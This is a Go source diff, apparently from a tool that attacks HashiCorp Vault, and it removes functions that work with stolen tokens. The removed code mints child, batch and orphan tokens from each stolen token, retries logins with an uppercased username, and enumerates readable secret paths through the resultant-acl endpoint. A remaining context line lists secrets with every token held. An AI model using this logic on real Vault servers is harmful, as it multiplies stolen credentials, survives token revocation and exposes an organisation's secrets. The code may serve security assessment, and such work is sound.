@@ -19,62 +19,6 @@ type secret struct {
 	seen    map[int]bool
 }
 
-// grow makes what can be made with a token: another spelling of its user, a child, a batch child, an
-// orphan. And it asks Vault what the token may read.
-func (e *ear) grow(ctx context.Context, t *stolenToken) {
-	t.grown = true
-	for _, made := range []struct {
-		via, path string
-		body      map[string]any
-	}{
-		{ViaChild, "auth/token/create", map[string]any{}},
-		{ViaBatch, "auth/token/create", map[string]any{"type": "batch", "ttl": "1h"}},
-		{ViaOrphan, "auth/token/create-orphan", map[string]any{}},
-	} {
-		if t.via == ViaLogin || t.via == ViaNew {
-			if a, _, token := t.opener.login(ctx, made.path, t.value, made.body); a == accepted {
-				e.add(t, token, made.via)
-			}
-		}
-	}
-	if up := strings.ToUpper(t.of.User); t.via == ViaLogin && up != t.of.User {
-		if a, _, token := t.opener.login(ctx, "auth/"+t.of.Mount+"/login/"+url.PathEscape(up), "", map[string]any{"password": t.of.Password}); a == accepted {
-			e.add(t, token, ViaSpelling)
-		}
-	}
-	t.folders = t.opener.folders(ctx, t.value)
-}
-
-func (e *ear) add(from *stolenToken, token, via string) {
-	e.mu.Lock()
-	defer e.mu.Unlock()
-	e.hold(&stolenToken{door: from.door, value: token, of: from.of, via: via})
-}
-
-// folders are those that the token's policies name, as Vault tells every token that
-// has the policy "default" (sys/internal/ui/resultant-acl).
-func (o *vaultOpener) folders(ctx context.Context, token string) map[place]bool {
-	out := map[place]bool{}
-	_, _, body := o.call(ctx, "GET", "sys/internal/ui/resultant-acl", token, nil)
-	var acl struct {
-		Data struct {
-			Exact map[string]json.RawMessage `json:"exact_paths"`
-			Globs map[string]json.RawMessage `json:"glob_paths"`
-		} `json:"data"`
-	}
-	if json.Unmarshal(body, &acl) != nil {
-		return out
-	}
-	for _, paths := range []map[string]json.RawMessage{acl.Data.Exact, acl.Data.Globs} {
-		for path := range paths {
-			if mount, below, ok := strings.Cut(path, "/metadata/"); ok {
-				out[place{o.door.vault(), mount, below[:strings.LastIndex(below, "/")+1]}] = true
-			}
-		}
-	}
-	return out
-}
-
 // list finds secrets, in every folder that is known, with every token.
 func (e *ear) list(ctx context.Context) {
 	e.mu.Lock()
